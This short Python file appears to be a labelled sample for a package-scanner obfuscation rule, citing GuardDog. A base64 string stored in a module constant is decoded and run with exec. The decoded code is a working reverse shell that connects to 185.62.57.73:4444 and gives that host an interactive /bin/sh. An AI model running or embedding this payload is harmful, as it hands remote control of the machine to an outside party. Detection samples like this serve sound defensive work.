# technique: long high-entropy encoded blob kept in a module constant (staged, decoded later)
# class: obfuscation
# source: GuardDog "obfuscation" rule docs (long encoded strings)
# declares:
import base64

STAGE = (
    "ZGVmIHJ1bigpOgogICAgaW1wb3J0IHNvY2tldCwgc3VicHJvY2Vzcywgb3MKICAgIHM9c29ja2V0LnNvY2tldCgp"
    "CiAgICBzLmNvbm5lY3QoKCIxODUuNjIuNTcuNzMiLDQ0NDQpKQogICAgb3MuZHVwMihzLmZpbGVubygpLDApCiAg"
    "ICBvcy5kdXAyKHMuZmlsZW5vKCksMSkKICAgIHN1YnByb2Nlc3MuY2FsbChbIi9iaW4vc2giLCItaSJdKQpydW4oKQ=="
)


def init():
    ns = {}
    exec(base64.b64decode(STAGE), ns)
